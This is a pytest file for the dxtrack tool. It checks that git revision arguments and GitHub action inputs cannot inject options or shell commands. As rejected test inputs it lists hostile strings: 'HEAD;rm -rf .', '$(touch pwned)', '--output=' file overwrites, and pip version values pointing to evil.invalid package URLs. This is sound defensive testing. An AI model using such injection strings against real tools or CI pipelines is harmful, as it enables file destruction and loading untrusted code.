"""Argument injection through git (issue 14): a revision from `--changed-since`, `dxtrack diff`
or the GitHub action never reaches git as an option, names exactly one commit (checked with
`git rev-parse --verify --end-of-options REV^{commit}`, then only its id is given to git),
and a bad one is exit 2 with our words; the action passes its inputs only through `env:`."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

import dxtrack
from conftest import MODELS_EVENT, git

BAD = "type: event\nunit: bo-y-te\nkind: nope\ntitle: Sai | loại\ndate: 2025-09-02\nmode: online\n"
# the action beside the package under test (src/dxtrack → the repo root), so a run against
# another checkout (PYTHONPATH=…/src) tests that checkout's action.yml
ACTION = Path(dxtrack.__file__).resolve().parents[2] / "action.yml"


@pytest.fixture
def git_repo(make_repo):
    """A tracker repo committed on branch main, and a file outside it git must never write."""
    root = make_repo({"activities/bo-y-te/2025-09-01-toa-dam.yaml": MODELS_EVENT})
    git(root, "init", "-q", "-b", "main")
    git(root, "add", ".")
    git(root, "commit", "-qm", "base")
    victim = root.parent / "victim.txt"
    victim.write_text("giữ nguyên\n", encoding="utf-8")
    return root


def _victim(root: Path) -> Path:
    return root.parent / "victim.txt"


def _hostile(root: Path) -> list[str]:
    victim = _victim(root)
    return [f"--output={victim}", f"--output={victim}..HEAD", f"HEAD..--output={victim}", "-x", "-p",
            "HEAD;rm -rf .", "$(touch pwned)", "HEAD\nmain", "main\r", "khong-co-nhanh", "main^{tree}",
            "HEAD:dxtrack.yaml", ":/base", "main^@", "HEAD^!", "a" * 2000]


def test_hostile_changed_since_is_exit_2_and_writes_nothing(git_repo, cli):
    root = git_repo
    for ref in _hostile(root):
        result = cli(["check", f"--changed-since={ref}", "--repo", root])
        assert result.exit_code == 2, (ref, result.output)
        assert result.stderr.startswith("Lỗi: --changed-since: không có phiên bản"), (ref, result.stderr)
        assert "fatal" not in result.stderr and "Traceback" not in result.stderr
        assert "\n" not in result.stderr.rstrip("\n")  # a newline in the ref is shown escaped, on one line
    assert _victim(root).read_text(encoding="utf-8") == "giữ nguyên\n"
    assert not (root / "pwned").exists()


def test_hostile_diff_revision_is_exit_2_and_writes_nothing(git_repo, cli):
    root = git_repo
    for ref in _hostile(root):
        result = cli(["diff", "--repo", root, "--", ref])
        assert result.exit_code == 2, (ref, result.output)
        assert "Traceback" not in result.stderr and "fatal" not in result.stderr
        assert result.stderr.startswith("Lỗi: "), (ref, result.stderr)
    assert _victim(root).read_text(encoding="utf-8") == "giữ nguyên\n"
    assert not (root / "pwned").exists()


@pytest.mark.parametrize("command", ["check", "diff"])
def test_a_negated_revision_is_not_a_commit(git_repo, cli, command):
    """`^main` passes `rev-parse --verify` (it prints `^<id>`), yet names no commit: refused,
    never compared as "no tracker there" nor diffed as something else."""
    root = git_repo
    if command == "check":
        result = cli(["check", "--changed-since=^main", "--repo", root])
    else:
        result = cli(["diff", "--repo", root, "--", "^main"])
    assert result.exit_code == 2, result.output
    assert 'không có phiên bản "^main"' in result.stderr


def test_a_nul_in_a_revision_is_a_bad_ref_not_a_crash(git_repo, cli):
    """A NUL cannot reach git (Python refuses it in an argument): told as a bad revision."""
    root = git_repo
    result = cli(["check", "--changed-since=main\x00--output=x", "--repo", root])
    assert result.exit_code == 2, result.output
    assert 'không có phiên bản "main\\x00--output=x"' in result.stderr
    result = cli(["diff", "--repo", root, "--", "main\x00"])
    assert result.exit_code == 2, result.output
    assert "dxtrack diff: không có phiên bản" in result.stderr


def test_a_very_long_revision_is_shown_short(git_repo, cli):
    result = cli(["check", "--changed-since=" + "b" * 5000, "--repo", git_repo])
    assert result.exit_code == 2
    assert len(result.stderr) < 500 and "b" * 80 + "…" in result.stderr


def test_ranges_and_real_revisions_still_work(git_repo, cli):
    root = git_repo
    head = git(root, "rev-parse", "HEAD").strip()
    (root / "activities/bo-y-te/moi.yaml").write_text(BAD, encoding="utf-8")
    git(root, "add", ".")
    git(root, "commit", "-qm", "bad record")
    for ref in ("main~1", head, head[:10], "HEAD@{1}"):
        result = cli(["check", "--format", "json", f"--changed-since={ref}", "--repo", root])
        assert result.exit_code == 1, (ref, result.output)
        assert [f["file"] for f in json.loads(result.stdout)["findings"]] == ["activities/bo-y-te/moi.yaml"]
    for spec in ("main~1..main", "main~1...HEAD", f"{head}..HEAD", "main~1"):
        result = cli(["diff", "--format", "json", "--as-of", "2025-10-01", "--repo", root, "--", spec])
        assert result.exit_code == 0, (spec, result.output)


def test_a_changed_file_whose_name_is_not_utf8_still_counts(git_repo, cli):
    """git's names are read as Python reads file names: a bad record named with a byte that is
    not UTF-8 is one of the changed files, not dropped (old: read as U+FFFD, so `check` passed)."""
    root = git_repo
    name = os.fsdecode(b"activities/bo-y-te/\xff.yaml")
    try:
        (root / name).write_text(BAD, encoding="utf-8")
    except (OSError, UnicodeEncodeError):
        pytest.skip("this file system takes no such name")
    result = cli(["check", "--format", "json", "--changed-since=main", "--repo", root])
    assert result.exit_code == 1, result.output
    assert [f["code"] for f in json.loads(result.stdout)["findings"]] == ["DX204"]
    git(root, "add", ".")
    git(root, "commit", "-qm", "committed too")
    result = cli(["check", "--format", "json", "--changed-since=main~1", "--repo", root])
    assert result.exit_code == 1, result.output


@pytest.mark.parametrize("folder", [b"kho", b"kho-\xff"], ids=["ascii", "not-utf8"])
def test_a_tracker_in_a_subfolder_of_the_git_repo(tmp_path, cli, folder):
    """git's prefix is read as a file name (old: UnicodeDecodeError), and `git archive` runs
    at the top of the work tree (old: run in the subfolder, it found no tracker there)."""
    top = tmp_path / "top"
    root = top / os.fsdecode(folder)
    try:
        root.mkdir(parents=True)
    except (OSError, UnicodeEncodeError):
        pytest.skip("this file system takes no such name")
    assert cli(["init", root, "--organization", "Đảng ủy Chính phủ"]).exit_code == 0
    git(top, "init", "-q", "-b", "main")
    git(top, "add", ".")
    git(top, "commit", "-qm", "base")
    (root / "activities/bo-tai-chinh").mkdir(parents=True)
    (root / "activities/bo-tai-chinh/moi.yaml").write_text(BAD.replace("bo-y-te", "bo-tai-chinh"), encoding="utf-8")
    result = cli(["check", "--format", "json", "--changed-since=main", "--repo", root])
    assert result.exit_code == 1, result.output
    assert [f["file"] for f in json.loads(result.stdout)["findings"]] == ["activities/bo-tai-chinh/moi.yaml"]
    result = cli(["diff", "--format", "json", "--repo", root, "--", "main"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert (data["from_rev"], data["missing_at_from"], data["unchanged"]) == ("main", None, 1)  # found at main


# ---------------------------------------------------------------- the GitHub action


def _action():
    return yaml.safe_load(ACTION.read_text(encoding="utf-8"))


def _step(name: str) -> dict:
    return next(s for s in _action()["runs"]["steps"] if s.get("name") == name)


def test_no_input_is_written_into_a_script():
    """`${{ inputs.* }}` is pasted into the script before bash reads it: only `env:` values and
    the `with:` of another action may hold one."""
    steps = _action()["runs"]["steps"]
    assert any("run" in s for s in steps)
    for step in steps:
        assert "${{" not in step.get("run", ""), step.get("name")
        for key, value in step.items():
            if key not in ("env", "with"):
                assert "${{ inputs." not in json.dumps(value), (step.get("name"), key)
    for name in ("version", "changed-since", "changed-only", "args", "working-directory"):
        assert any(f"${{{{ inputs.{name} }}}}" in (s.get("env") or {}).values() for s in steps), name


def _fake(bin_dir: Path, name: str) -> None:
    """A command that writes its arguments, NUL-separated, to $FAKE_LOG/<name>, and succeeds."""
    path = bin_dir / name
    path.write_text(f'#!/bin/bash\nprintf "%s\\0" "$@" >> "$FAKE_LOG/{name}"\n', encoding="utf-8")
    path.chmod(0o755)


def _run_step(tmp_path: Path, name: str, env: dict[str, str]) -> tuple[subprocess.CompletedProcess, dict]:
    """Run the `run:` script of action step `name` as GitHub runs a bash step, with fake
    dxtrack, git and python; (the result, {command: [its arguments, one list per call]})."""
    bash = shutil.which("bash")
    if bash is None:
        pytest.skip("no bash here")
    bin_dir, log = tmp_path / "bin", tmp_path / "log"
    bin_dir.mkdir(parents=True)
    log.mkdir()
    for command in ("dxtrack", "git", "python"):
        _fake(bin_dir, command)
    script = tmp_path / "step.sh"
    script.write_text(_step(name)["run"], encoding="utf-8")
    work = tmp_path / "work"
    work.mkdir(exist_ok=True)
    full = {"PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", "FAKE_LOG": str(log), "HOME": str(tmp_path),
            **env}
    done = subprocess.run([bash, "--noprofile", "--norc", "-eo", "pipefail", str(script)], cwd=work,
                          capture_output=True, text=True, env=full, timeout=60)
    calls = {}
    for command in ("dxtrack", "git", "python"):
        file = log / command
        if file.exists():
            calls[command] = file.read_text(encoding="utf-8").split("\0")[:-1]
    return done, calls


CHECK_ENV = {"WORKING_DIRECTORY": ".", "CHANGED_ONLY": "false", "CHANGED_SINCE": "", "BASE_REF": "",
             "EXTRA_ARGS": ""}


@pytest.mark.parametrize("value", ["-x", "--output=/tmp/x", "main; touch pwned", "$(touch pwned)"])
def test_action_changed_since_is_one_argument_in_the_equals_form(tmp_path, value):
    done, calls = _run_step(tmp_path, "dxtrack check", {**CHECK_ENV, "CHANGED_SINCE": value})
    assert done.returncode == 0, done.stderr
    assert calls["dxtrack"] == ["check", "--format", "github", f"--changed-since={value}"]
    assert not list(tmp_path.rglob("pwned"))


def test_action_changed_only_fetches_with_a_double_dash(tmp_path):
    done, calls = _run_step(tmp_path, "dxtrack check", {**CHECK_ENV, "CHANGED_ONLY": "true", "BASE_REF": "main"})
    assert done.returncode == 0, done.stderr
    assert calls["git"] == ["fetch", "--no-tags", "--", "origin", "main"]
    assert calls["dxtrack"] == ["check", "--format", "github", "--changed-since=origin/main"]


def test_action_args_are_split_on_white_space_and_never_run(tmp_path):
    extra = "activities/bo-y-te  *\n$(touch pwned) `touch pwned` \"a b\" $HOME\t'c'"
    done, calls = _run_step(tmp_path, "dxtrack check", {**CHECK_ENV, "EXTRA_ARGS": extra})
    assert done.returncode == 0, done.stderr
    assert calls["dxtrack"] == ["check", "--format", "github", "activities/bo-y-te", "*", "$(touch", "pwned)",
                                "`touch", "pwned`", '"a', 'b"', "$HOME", "'c'"]
    assert not list(tmp_path.rglob("pwned"))


def test_action_working_directory_is_a_folder_name_only(tmp_path):
    folder = tmp_path / "work" / "$(touch pwned)"
    folder.mkdir(parents=True)
    done, _calls = _run_step(tmp_path, "dxtrack check", {**CHECK_ENV, "WORKING_DIRECTORY": "$(touch pwned)"})
    assert done.returncode == 0, done.stderr
    assert not list(tmp_path.rglob("pwned"))


@pytest.mark.parametrize("version", ["0.1.0 --index-url=https://evil.invalid/simple", "@ https://evil.invalid/x.whl",
                                     "--pre", "0.1.0;touch pwned", "../../evil"])
def test_action_version_must_be_a_version_number(tmp_path, version):
    done, calls = _run_step(tmp_path, "Install dxtrack", {"DXTRACK_VERSION": version, "ACTION_PATH": "/action"})
    assert done.returncode != 0
    assert "python" not in calls  # pip never ran
    assert "::error" in done.stdout and version not in done.stdout  # the value is not echoed into the log


def test_action_version_installs_that_version(tmp_path):
    done, calls = _run_step(tmp_path, "Install dxtrack", {"DXTRACK_VERSION": "0.1.0", "ACTION_PATH": "/action"})
    assert done.returncode == 0, done.stderr
    assert calls["python"] == ["-m", "pip", "install", "--", "dxtrack==0.1.0"]
    done, calls = _run_step(tmp_path / "own", "Install dxtrack", {"DXTRACK_VERSION": "", "ACTION_PATH": "/action"})
    assert done.returncode == 0, done.stderr
    assert calls["python"] == ["-m", "pip", "install", "--", "/action"]
